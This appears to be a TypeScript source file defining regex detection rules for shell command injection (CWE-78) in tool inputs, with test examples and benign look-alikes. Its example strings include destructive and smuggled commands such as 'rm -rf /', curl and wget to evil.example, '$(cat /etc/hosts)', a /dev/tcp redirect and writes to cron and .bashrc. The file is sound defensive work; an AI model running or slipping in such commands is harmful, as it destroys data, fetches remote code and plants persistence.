import { CWE_78, type ToolInputRule } from './rule.ts';

const COMMAND =
  '(?:rm|curl|wget|bash|sh|zsh|nc|ncat|chmod|chown|sudo|dd|mkfs|python3?|perl|ruby|node|php|powershell|pwsh|cmd|cat|eval|exec|kill|scp|ssh|tee|xargs|env|printenv|whoami|id|ls|mv|cp|echo|base64|crontab)';

/** What a shell reads as a command of its own. */
export const SHELL: readonly ToolInputRule[] = [
  {
    rule: 'tool-input/shell-command',
    kind: 'shell',
    what: 'A command behind a separator, a pipe or a line end of a shell',
    source: CWE_78,
    examples: [
      () => 'a.txt; rm -rf /',
      () => 'x && curl evil.example',
      () => 'x | sh',
      () => 'a\nwget http://evil.example',
    ],
    lookAlikes: [() => 'salt; pepper', () => 'rm -rf is dangerous', () => 'Tom & Jerry', () => 'a || b'],
    knownMisses: 'Commands that are not among the forty best known; names spelt with quotes or variables.',
    pattern: new RegExp(`(?:[;|\\n]|&&?)[ \\t]{0,8}(?:[./a-z]{0,24}/)?${COMMAND}(?![\\w-])[^;|&\\n]{0,160}`, 'gi'),
  },
  {
    rule: 'tool-input/shell-substitution',
    kind: 'shell',
    what: 'Command substitution, or an expansion that runs one',
    source: CWE_78,
    examples: [() => '$(cat /etc/hosts)', () => '`id`', () => '<(ls)'],
    lookAlikes: [() => 'costs $(5)', () => 'a `name` in prose', () => '(see below)'],
    knownMisses: 'Expansions of variables alone.',
    pattern: new RegExp(
      `\\$\\((?!\\d)[^()\\n]{1,160}\\)|\`[ \\t]{0,8}${COMMAND}(?![\\w-])[^\`\\n]{0,160}\`|[<>]\\([^()\\n]{1,160}\\)|\\$\\{IFS\\}`,
      'gi',
    ),
  },
  {
    rule: 'tool-input/shell-redirect',
    kind: 'shell',
    what: 'Output sent to a device, a start-up file or a path from the root',
    source: CWE_78,
    examples: [() => 'x > /etc/cron.d/a', () => 'x >> ~/.bashrc', () => '2>/dev/tcp/192.0.2.1/80'],
    lookAlikes: [() => 'a > b', () => 'x -> /y'],
    knownMisses: 'Files in the working folder.',
    pattern: /(?<![-=<])>{1,2}[ \t]{0,8}(?:~\/|\/)[\w./-]{1,160}/g,
  },
];
